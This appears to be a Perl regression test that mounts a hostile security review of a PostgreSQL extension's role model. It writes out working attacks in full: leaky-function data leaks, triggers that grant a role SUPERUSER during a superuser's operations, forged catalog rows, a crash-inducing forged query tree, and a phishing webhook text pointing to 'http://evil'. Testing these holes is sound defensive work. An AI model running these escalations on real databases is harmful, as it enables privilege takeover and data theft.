# Hostile review of the security model (issue 14, README "Roles and
# privileges").  Each check named "[VULN]" demonstrated a hole and FAILED on
# commit c5b58b6 (15 of 31: A1-A3, B1, B2, C1, D1-D3, E1, F1, F2, G1, I1,
# I2); each "[HOLDS]" check confirms a defence that held.  C1 crashes the
# datamart with SIGSEGV (the test restarts it).
#
# Roles: etl owns pipeline acme, alice is a member of etl (an operator),
# other_owner owns pipeline hidden (another team), bi is a reader with no
# grant on hidden's tables, postgres is the superuser (a DBA, pg_cron).
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use SluiceTest;

my $live = new_live('live');
my $mart = new_mart('mart', conf => "shared_preload_libraries = 'pg_sluice'\npg_sluice.naptime = 200\n");
my ($rc, $out, $err);
my $secret_key = 'secret-key-7Qx';

$live->safe_psql('postgres', qq{
CREATE SCHEMA app;
CREATE TABLE app.acct (id int PRIMARY KEY, v int NOT NULL, note text);
INSERT INTO app.acct SELECT g, g, 'n' || g FROM generate_series(1, 20) g;
CREATE TABLE app.other (id text PRIMARY KEY, secret_value text);
INSERT INTO app.other VALUES ('$secret_key', 'only-for-other-team');
CREATE TABLE app.loot (id int PRIMARY KEY, v text);
INSERT INTO app.loot SELECT g, 'loot' || g FROM generate_series(1, 3) g;
CREATE TABLE app.t2 (id int PRIMARY KEY, v text);
INSERT INTO app.t2 SELECT g, 't' || g FROM generate_series(1, 3) g;
});

$mart->safe_psql('postgres', qq{
CREATE ROLE etl NOLOGIN;
CREATE ROLE alice LOGIN;
CREATE ROLE other_owner NOLOGIN;
CREATE ROLE bi LOGIN;
GRANT CREATE ON DATABASE postgres TO etl;
SELECT sluice.grant_operator('etl');
SELECT sluice.grant_operator('other_owner');
GRANT EXECUTE ON FUNCTION sluice.create_pipeline(text, text, text[], name, text, text, boolean) TO etl;
GRANT etl TO alice;
SELECT sluice.create_source('live', \$\$@{[ $live->connstr('postgres') ]}\$\$);
});
$mart->safe_psql('postgres', q{
SET ROLE etl;
SELECT sluice.create_pipeline('acme', 'live', ARRAY['app.acct'], target_schema => 'acme');
CREATE SCHEMA etlfn;
CREATE TABLE etlfn.seen (who text, what text);
GRANT USAGE ON SCHEMA etlfn TO PUBLIC;
GRANT INSERT ON etlfn.seen TO PUBLIC;
});
$mart->safe_psql('postgres', q{
SELECT sluice.create_pipeline('hidden', 'live', ARRAY['app.other'], target_schema => 'hid');
SELECT sluice.alter_pipeline_owner('hidden', 'other_owner');
ALTER SCHEMA hid OWNER TO other_owner;
ALTER TABLE hid.other OWNER TO other_owner;
SET ROLE other_owner;
SELECT sluice.expect_column_values_to_match_regex('hid.other', 'secret_value', '^zzz', 'warn');
});
$live->safe_psql('postgres', "UPDATE app.other SET secret_value = 'changed-1'");
$mart->safe_psql('postgres', "SELECT sluice.refresh('hidden')");
like($mart->safe_psql('postgres', "SELECT sample_keys::text FROM sluice.quality WHERE target_table = 'other'"),
	qr/\Q$secret_key\E/, '(setup: the superuser sees the failing key of hid.other in sluice.quality)');
($rc, $out, $err) = $mart->psql('postgres', "SET ROLE bi; SELECT * FROM hid.other");
isnt($rc, 0, '(setup: bi cannot read hid.other)');

# --- A. reader: values of a table it cannot read -------------------------
# sluice.quality filters rows with sluice._readable() but is not a
# security_barrier view: a cheap leaky function in the reader's own WHERE
# clause is evaluated on every row before the filter.  pg_temp needs no grant.
($rc, $out, $err) = $mart->psql('postgres', q{
SET ROLE bi;
SET enable_nestloop = off; SET enable_mergejoin = off; SET enable_indexscan = off; SET enable_bitmapscan = off;
CREATE FUNCTION pg_temp.leak(jsonb) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$
BEGIN RAISE NOTICE 'leaked: %', $1; RETURN true; END $$;
SELECT count(*) FROM sluice.quality WHERE pg_temp.leak(sample_keys);
});
is($out, '0', '(bi sees no quality row of hid.other through the filter)');
unlike($err, qr/\Q$secret_key\E/,
	'[VULN] A1 a reader cannot read sample_keys of an unreadable table through a leaky function on sluice.quality (needs security_barrier)');
($rc, $out, $err) = $mart->psql('postgres', q{
SET ROLE bi;
SET enable_nestloop = off; SET enable_mergejoin = off; SET enable_indexscan = off; SET enable_bitmapscan = off;
CREATE FUNCTION pg_temp.leak(jsonb) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS $$
BEGIN RAISE NOTICE 'leaked: %', $1; RETURN true; END $$;
SELECT count(*) FROM sluice.expectations WHERE pg_temp.leak(args);
});
unlike($err, qr/\^zzz/,
	'[VULN] A2 nor the args (value sets, regexes) of its expectations through sluice.expectations');

# An error-severity expectation pauses the pipeline with the failing row's
# key in paused_reason; sluice.status and sluice.runs are readable by all.
$mart->safe_psql('postgres', q{SET ROLE other_owner;
SELECT sluice.add_expectation('hid.other', 'expect_column_values_to_match_regex', ARRAY['secret_value'],
                              '{"regex": "^zzz"}', 'error', 'strict_re');
});
$live->safe_psql('postgres', "UPDATE app.other SET secret_value = 'changed-2'");
$mart->safe_psql('postgres', "SELECT sluice.refresh('hidden')");
like($mart->safe_psql('postgres', "SELECT paused_reason FROM sluice.status WHERE pipeline = 'hidden'"),
	qr/strict_re/, '(setup: hidden is paused by the error expectation)');
my $seen = $mart->safe_psql('postgres', q{SET ROLE bi;
SELECT coalesce(string_agg(coalesce(paused_reason, '') || coalesce(last_error, ''), '|'), '') FROM sluice.status;
SELECT coalesce(string_agg(coalesce(error, ''), '|'), '') FROM sluice.runs;
SELECT coalesce(string_agg(detail, '|'), '') FROM sluice.drift_events});
unlike($seen, qr/\Q$secret_key\E/,
	'[VULN] A3 a reader does not see key values of an unreadable table in sluice.status.paused_reason / sluice.runs.error');
$mart->safe_psql('postgres', q{SET ROLE other_owner; SELECT sluice.drop_expectation('hid.other', 'strict_re');
SELECT sluice.resume('hidden');});
is($mart->safe_psql('postgres', "SELECT status FROM sluice.refresh('hidden')"), 'succeeded', '(hidden resumed)');

# --- B. forging another team's catalog rows through operator grants --------
# _expectation_result has no row security on expectation_id: alice attaches
# a forged result (with chosen sample_keys) to hidden's expectation.
$live->safe_psql('postgres', "INSERT INTO app.acct VALUES (100, 100, 'x')");
$mart->safe_psql('postgres', "SET ROLE alice; SELECT sluice.refresh('acme')");
($rc, $out, $err) = $mart->psql('postgres', q{SET ROLE alice;
DO $$
DECLARE run bigint := (SELECT max(run_id) FROM sluice._run r JOIN sluice._pipeline p USING (pipeline_id)
                        WHERE p.name = 'acme' AND r.status = 'succeeded');
BEGIN
  FOR g IN 1..30 LOOP
    BEGIN
      INSERT INTO sluice._expectation_result (run_id, expectation_id, evaluated, failed, success, observed, sample_keys)
      VALUES (run, g, 1, 999, false, 'forged', '["forged by alice"]');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $$;});
is($mart->safe_psql('postgres', "SELECT count(*) FROM sluice.quality WHERE pipeline = 'hidden' AND failed = 999"), '0',
	"[VULN] B1 an operator cannot attach a forged result to another team's expectation (sluice.quality of hidden)");

# _announce_failure (SECURITY DEFINER, EXECUTE to PUBLIC) trusts session_user:
# code of etl that runs in a superuser's session (a trigger, during the
# superuser's refresh, under SECURITY_RESTRICTED_OPERATION) passes the check
# and queues forged events for any pipeline.
$mart->safe_psql('postgres', "SELECT sluice.create_webhook('hook', 'http://127.0.0.1:9/hook', ARRAY['*'])");
# (connected as alice: SET ROLE in a superuser's session would keep session_user)
($rc, $out, $err) = $mart->psql('postgres', q{SELECT sluice._announce_failure('hidden', '{"summary": "direct"}')},
	extra_params => ['-U', 'alice']);
like($err, qr/permission denied to announce a failure of pipeline "hidden"/,
	'[HOLDS] an operator calling _announce_failure for another team is refused');
$mart->safe_psql('postgres', q{
SET ROLE etl;
CREATE FUNCTION etlfn.forge() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  PERFORM sluice._announce_failure('hidden', '{"summary": "forged-by-etl", "error": "hidden is broken, rotate its password at http://evil"}');
  RETURN NEW;
END $$;
CREATE TRIGGER forge AFTER INSERT ON acme.acct FOR EACH ROW EXECUTE FUNCTION etlfn.forge();
});
$live->safe_psql('postgres', "INSERT INTO app.acct VALUES (101, 101, 'x')");
($rc, $out, $err) = $mart->psql('postgres', "SELECT status FROM sluice.refresh('acme')");
like($err, qr/cannot announce a failure of pipeline "hidden" within a security-restricted operation/,
	'(the trigger calling _announce_failure inside the refresh is refused)');
is($mart->safe_psql('postgres', q{SELECT count(*) FROM sluice._outbox WHERE pipeline = 'hidden' AND body->>'summary' = 'forged-by-etl'}),
	'0', "[VULN] B2 etl's trigger in a superuser's refresh cannot queue events for another team's pipeline (_announce_failure checks session_user)");
$mart->safe_psql('postgres', "SET ROLE etl; DROP TRIGGER forge ON acme.acct");

# --- C. trees copied from pg_catalog into the expectation catalog ----------
# A predicate tree of another table with other column types: refused.
$mart->safe_psql('postgres', q{SET ROLE etl;
CREATE TABLE etlfn.shape (s text CHECK (length(s) > 0));
CREATE FUNCTION etlfn.q() RETURNS text LANGUAGE sql RETURN 'not a check';});
($rc, $out, $err) = $mart->psql('postgres', q{SET ROLE alice;
INSERT INTO sluice._expectation (pipeline_id, source_schema, source_table, name, kind, severity, predicate_tree)
SELECT p.pipeline_id, 'app', 'acct', 'forged_pred', 'expect_row_to_satisfy', 'warn',
       (SELECT conbin FROM pg_constraint WHERE conrelid = 'etlfn.shape'::regclass AND contype = 'c')
  FROM sluice._pipeline p WHERE p.name = 'acme'});
$live->safe_psql('postgres', "INSERT INTO app.acct VALUES (102, 102, 'x')");
($rc, $out, $err) = $mart->psql('postgres', "SET ROLE alice; SELECT status FROM sluice.refresh('acme')");
like($err, qr/no longer fits|permission denied|cannot/,
	'[HOLDS] a predicate tree copied from another table (pg_constraint.conbin, mismatched types) is refused at refresh');
$mart->safe_psql('postgres', "SET ROLE alice; DELETE FROM sluice._expectation WHERE name = 'forged_pred'");
# A query tree from pg_proc.prosqlbody (one text column): run_check does not
# re-check what _compile_check checked (four typed columns) and reads its
# result as int8 values and past the end of the tuple.
($rc, $out, $err) = $mart->psql('postgres', q{SET ROLE alice;
INSERT INTO sluice._expectation (pipeline_id, source_schema, source_table, name, kind, severity, check_tree)
SELECT p.pipeline_id, 'app', 'acct', 'forged_check', 'expect_table_row_count_to_be_between', 'warn',
       (SELECT prosqlbody FROM pg_proc WHERE oid = 'etlfn.q'::regproc)
  FROM sluice._pipeline p WHERE p.name = 'acme'});
my $forged_insert_rc = $rc;
$live->safe_psql('postgres', "INSERT INTO app.acct VALUES (103, 103, 'x')");
($rc, $out, $err) = $mart->psql('postgres', "SET ROLE alice; SELECT status FROM sluice.refresh('acme')");
diag("forged check_tree refresh: rc=$rc out=$out err=$err");
unlike(slurp_file($mart->logfile), qr/terminated by signal/,
	'[VULN] C1 an operator cannot crash the datamart: a check_tree copied from pg_proc.prosqlbody (one text column) is refused, not run');
# restart_after_crash is off in tests: bring the datamart back if it died
if ($mart->psql('postgres', 'SELECT 1') != 0)
{
	$mart->_update_pid(0);
	$mart->start;
}
is($mart->safe_psql('postgres', "SELECT count(*) FROM sluice.quality WHERE expectation = 'forged_check'"), '0',
	'(C2: the forged check recorded no result)');
$mart->safe_psql('postgres', "SET ROLE alice; DELETE FROM sluice._expectation WHERE name = 'forged_check'");
$mart->safe_psql('postgres', "SET ROLE alice; SELECT sluice.resume('acme')");
($rc, $out, $err) = $mart->psql('postgres', "SET ROLE alice; SELECT status FROM sluice.refresh('acme')");

# --- D. quarantine: release runs as the caller -----------------------------
$mart->safe_psql('postgres', q{SET ROLE alice;
SELECT sluice.add_expectation('acme.acct', 'expect_row_to_satisfy', '{}', '{"predicate": "v < 1000"}', 'quarantine', 'small')});
$live->safe_psql('postgres', "INSERT INTO app.acct VALUES (900, 5000, 'big')");
is($mart->safe_psql('postgres', "SET ROLE alice; SELECT status FROM sluice.refresh('acme')"), 'succeeded', '(refresh quarantines a row)');
is($mart->safe_psql('postgres', "SET ROLE alice; SELECT count(*) FROM sluice.quarantine WHERE status = 'held'"), '1', '(one row held)');
# alice forges a held row of her pipeline that targets another team's table
($rc, $out, $err) = $mart->psql('postgres', q{SET ROLE alice;
INSERT INTO sluice._quarantine (pipeline_id, target_schema, target_table, change, row_data, row_key)
SELECT pipeline_id, 'hid', 'other', 'insert', '{"id": "planted", "secret_value": "by alice"}', '{"id": "planted"}'
  FROM sluice._pipeline WHERE name = 'acme'});
like($err, qr/permission denied for table _quarantine/, '[HOLDS] alice cannot forge a quarantined row (only pg_sluice writes them)');
# the owner plants a trigger on its datamart table, then a DBA releases the held rows
$mart->safe_psql('postgres', q{SET ROLE etl;
CREATE FUNCTION etlfn.spy() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO etlfn.seen VALUES (current_user, TG_TABLE_NAME);
  BEGIN
    EXECUTE 'ALTER ROLE etl SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN NEW;
END $$;
CREATE TRIGGER spy AFTER INSERT OR UPDATE ON acme.acct FOR EACH ROW EXECUTE FUNCTION etlfn.spy();});
($rc, $out, $err) = $mart->psql('postgres',
	"SELECT sluice.release_quarantined(quarantine_id) FROM sluice.quarantine WHERE status = 'held' ORDER BY quarantine_id");
diag("superuser bulk release: rc=$rc err=$err");
is($mart->safe_psql('postgres', "SELECT count(*) FROM hid.other WHERE id = 'planted'"), '0',
	"[VULN] D1 a row forged by an operator (INSERT on _quarantine, any target_table) is never released into another team's table");
is($mart->safe_psql('postgres', "SELECT coalesce(string_agg(DISTINCT who, ','), '') FROM etlfn.seen WHERE who NOT IN ('etl')"), '',
	"[VULN] D2 release_quarantined by a superuser runs the table owner's trigger as the owner, not as the superuser");
is($mart->safe_psql('postgres', "SELECT rolsuper FROM pg_roles WHERE rolname = 'etl'"), 'f',
	'[VULN] D3 the pipeline owner did not become superuser through release_quarantined');
$mart->safe_psql('postgres', "ALTER ROLE etl NOSUPERUSER; SET ROLE etl; DROP TRIGGER spy ON acme.acct; TRUNCATE etlfn.seen");

# --- E. tags: a forged schema_name is dropped by untag ----------------------
$mart->safe_psql('postgres', q{
CREATE SCHEMA victim AUTHORIZATION other_owner;
CREATE TABLE victim.data (id int);
ALTER TABLE victim.data OWNER TO other_owner;
INSERT INTO victim.data VALUES (1);});
($rc, $out, $err) = $mart->psql('postgres', q{SET ROLE alice;
INSERT INTO sluice._tag (pipeline_id, name, version, schema_name)
SELECT pipeline_id, 'evil', 1, 'victim' FROM sluice._pipeline WHERE name = 'acme'});
($rc, $out, $err) = $mart->psql('postgres', "SET ROLE alice; SELECT sluice.untag('acme', 'evil')");
like($err, qr/must be owner of schema victim/, '[HOLDS] alice herself cannot drop the schema through untag');
($rc, $out, $err) = $mart->psql('postgres', "SELECT sluice.untag('acme', 'evil')");
is($mart->safe_psql('postgres', "SELECT count(*) FROM pg_tables WHERE schemaname = 'victim' AND tablename = 'data'"), '1',
	"[VULN] E1 a tag row forged by an operator (INSERT on _tag, any schema_name) does not make a superuser's untag drop another team's schema");

# --- F. the initial copy of adopted tables runs as the caller --------------
# F1: etl may only SELECT vault.loot (another team's, empty); adopting it
# makes the initial copy write into it anyway (CopyFrom below DoCopy's checks).
$mart->safe_psql('postgres', q{
CREATE SCHEMA vault AUTHORIZATION other_owner;
CREATE TABLE vault.loot (id int PRIMARY KEY, v text);
ALTER TABLE vault.loot OWNER TO other_owner;
GRANT USAGE ON SCHEMA vault TO etl;
GRANT SELECT ON vault.loot TO etl;});
($rc, $out, $err) = $mart->psql('postgres',
	"SET ROLE etl; SELECT sluice.create_pipeline('grab', 'live', ARRAY['app.loot'], target_schema => 'vault', adopt_tables => true)");
diag("adopt without INSERT: rc=$rc err=$err");
is($mart->safe_psql('postgres', 'SELECT count(*) FROM vault.loot'), '0',
	'[VULN] F1 create_pipeline(adopt_tables) does not write into a table the caller may not INSERT into');
# F2: a superuser adopts a table etl prepared (with a trigger)
$mart->safe_psql('postgres', q{SET ROLE etl;
CREATE SCHEMA etlzone;
CREATE TABLE etlzone.t2 (id int PRIMARY KEY, v text);
CREATE FUNCTION etlzone.spy() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  INSERT INTO etlfn.seen VALUES (current_user, 'initial copy');
  BEGIN
    EXECUTE 'ALTER ROLE etl SUPERUSER';
  EXCEPTION WHEN OTHERS THEN NULL;
  END;
  RETURN NEW;
END $$;
CREATE TRIGGER spy AFTER INSERT ON etlzone.t2 FOR EACH ROW EXECUTE FUNCTION etlzone.spy();});
($rc, $out, $err) = $mart->psql('postgres',
	"SELECT sluice.create_pipeline('adopted', 'live', ARRAY['app.t2'], target_schema => 'etlzone', adopt_tables => true)");
diag("superuser adopt: rc=$rc err=$err");
is($mart->safe_psql('postgres', "SELECT rolsuper FROM pg_roles WHERE rolname = 'etl'"), 'f',
	"[VULN] F2 a superuser's create_pipeline(adopt_tables) does not run the table owner's trigger with superuser rights");
$mart->safe_psql('postgres', 'ALTER ROLE etl NOSUPERUSER');

# --- G. run ids: an operator breaks every other pipeline -------------------
($rc, $out, $err) = $mart->psql('postgres', q{SET ROLE alice;
WITH n AS (SELECT nextval('sluice._run_run_id_seq') AS v)
INSERT INTO sluice._run (run_id, pipeline_id, kind, status, started_at, finished_at)
OVERRIDING SYSTEM VALUE
SELECT n.v + g, p.pipeline_id, 'refresh', 'failed', now(), now()
  FROM n, sluice._pipeline p, generate_series(1, 20) g WHERE p.name = 'acme'});
($rc, $out, $err) = $mart->psql('postgres', "SELECT status FROM sluice.refresh('hidden')");
is($out, 'succeeded', "[VULN] G1 an operator's forged run ids (OVERRIDING SYSTEM VALUE) do not break another team's refresh")
  or diag($err);

# --- H. what the roles still cannot do --------------------------------------
($rc, $out, $err) = $mart->psql('postgres', q{SET ROLE alice;
INSERT INTO sluice._tag (pipeline_id, name, version, schema_name)
VALUES ((SELECT pipeline_id FROM sluice.pipelines WHERE name = 'hidden'), 'x', 1, 'xx')});
like($err, qr/row-level security/, "[HOLDS] nor insert rows for another team's pipeline id (RLS WITH CHECK)");
($rc, $out, $err) = $mart->psql('postgres', "SET ROLE alice; SELECT conninfo FROM sluice._source");
like($err, qr/permission denied/, '[HOLDS] alice cannot read the source secret');
($rc, $out, $err) = $mart->psql('postgres', "SET ROLE bi; SELECT * FROM sluice._version_check(1, 1)");
unlike($err . $out, qr/\Q$secret_key\E/, '[HOLDS] SECURITY DEFINER version checks reveal no rows');

# --- I. run_as: the role a worker starts as, after a restart ---------------
($rc, $out, $err) = $mart->psql('postgres', q{SET ROLE alice;
UPDATE sluice._pipeline SET run_as = (SELECT oid FROM pg_roles WHERE rolname = 'postgres' OR rolsuper ORDER BY oid LIMIT 1),
       continuous = true
 WHERE name = 'acme'});
isnt($rc, 0, '[VULN] I1 an operator cannot set run_as (the role the worker runs as) of its pipeline to a superuser')
  or diag('UPDATE succeeded');
my $run_as_forged = ($rc == 0);
$mart->restart;
# (a worker starts only if the forged UPDATE went through)
$mart->poll_query_until('postgres',
	"SELECT count(*) > 0 FROM pg_stat_activity WHERE application_name = 'pg_sluice worker'", 't')
  or fail('the forged worker did not start') if $run_as_forged;
is($mart->safe_psql('postgres',
	"SELECT coalesce(string_agg(r.rolname, ','), '') FROM pg_stat_activity a JOIN pg_roles r ON r.oid = a.usesysid WHERE a.application_name = 'pg_sluice worker' AND r.rolsuper"),
	'', '[VULN] I2 after a restart no pipeline worker runs as a superuser the operator chose');

done_testing();
